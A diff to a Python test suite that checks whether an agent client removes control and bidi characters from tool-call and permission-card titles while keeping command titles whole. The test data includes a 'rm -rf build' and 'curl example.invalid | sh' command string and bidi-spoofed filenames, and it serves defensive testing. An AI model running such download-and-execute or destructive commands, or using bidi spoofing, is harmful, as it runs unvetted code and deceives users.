@@ -14,7 +14,7 @@ from pathlib import Path
 import trio
 
 from protocol.agent_options import choices_from_json, choices_to_json, read_choices
-from protocol.agent_text import MAX_ENTRIES, MAX_SHOWN, is_shown_as_is, shown
+from protocol.agent_text import MAX_ENTRIES, MAX_SHOWN, is_shown_as_is, shown, shown_whole
 from protocol.lm import AGENT_ACTION_TOOL
 from symposium.client import AGENT_ACTION_TOOL_DEF, BackendClient, process_agent, user
 
@@ -45,6 +45,14 @@ def test_shown_text_has_no_controls_no_bidi_and_at_most_200_characters() -> None
     assert is_shown_as_is("claude-sonnet-4-5") and not is_shown_as_is("spoof\u202egpj.exe") and not is_shown_as_is("") and not is_shown_as_is("y" * 201)
 
 
+def test_a_permission_cards_title_is_cleaned_but_whole() -> None:
+    # Gemini CLI's card title is the command itself: a line break or its 300th character matters.
+    command = "echo ok\r\nrm -rf build\t# " + "y" * 300 + "; curl example.invalid | sh"
+    assert shown_whole(command) == "echo ok\nrm -rf build\t# " + "y" * 300 + "; curl example.invalid | sh"
+    assert shown_whole("\u202eexe.txt\u202c run\x1b[2J\u2028next") == "exe.txt run [2J\nnext"
+    assert shown_whole(None) == ""
+
+
 def test_an_agent_offering_20000_models_offers_100_with_clean_names() -> None:
     models = [{"modelId": f"m{i}", "name": f"\u202eModel\x1b {i}", "description": "d" * 5000} for i in range(20_000)]
     models.insert(0, {"modelId": "spoof\u202egpj.exe", "name": "spoof"})
@@ -67,7 +75,7 @@ def test_an_agent_offering_20000_models_offers_100_with_clean_names() -> None:
 
 
 async def test_the_model_list_of_an_agent_offering_20000_hostile_models_is_bounded(backend: BackendClient) -> None:
-    entry = {"id": "hostile", "name": "Hostile", "agent": HOSTILE}
+    entry = {"id": "hostile", "name": "\u202eHostile\u2066", "agent": HOSTILE}  # as an old catalogue may have named it
     with trio.fail_after(GUARD):
         answer = await backend.chat([user("hello")], agent=HOSTILE, model_id="hostile")
         assert answer.error is None and answer.text() == "echo: hello"
@@ -104,7 +112,7 @@ async def test_session_titles_and_sign_in_methods_are_cleaned_and_capped(backend
     assert prepared["agentInfo"]["version"] == "1.0"
 
 
-async def test_the_titles_of_an_agents_tool_calls_and_permission_cards_are_cleaned_and_capped(backend: BackendClient) -> None:
+async def test_the_titles_of_an_agents_tool_calls_and_permission_cards_are_cleaned(backend: BackendClient) -> None:
     # The card's title is what the user reads before allowing: a bidi override there could make a
     # command read as another. The command itself is shown in full below it, from `raw_input`.
     with trio.fail_after(GUARD):
@@ -112,9 +120,11 @@ async def test_the_titles_of_an_agents_tool_calls_and_permission_cards_are_clean
     assert asked.error is None, asked.error
     [card] = [p for p in asked.parts if p["type"] == "tool_call"]
     assert card["toolName"] == AGENT_ACTION_TOOL
-    assert card["parameters"]["title"].startswith(CLEANED) and card["parameters"]["kind"].startswith(CLEANED)
-    for text in (card["parameters"]["title"], card["parameters"]["kind"]):
-        assert_showable(text)
+    title, kind = card["parameters"]["title"], card["parameters"]["kind"]
+    assert kind.startswith(CLEANED)
+    assert_showable(kind)
+    # The title is cleaned but whole, line breaks kept: cutting it could hide part of a command.
+    assert title == "evil  [31mred [0m\nnext line hidden " + "x" * 10_000, repr(title[:60])
     assert card["parameters"]["raw_input"] == {"command": "ls"}
     [status] = [line for line in asked.text().splitlines() if line.startswith("✓")]
     assert status.startswith(f"✓ {CLEANED}")
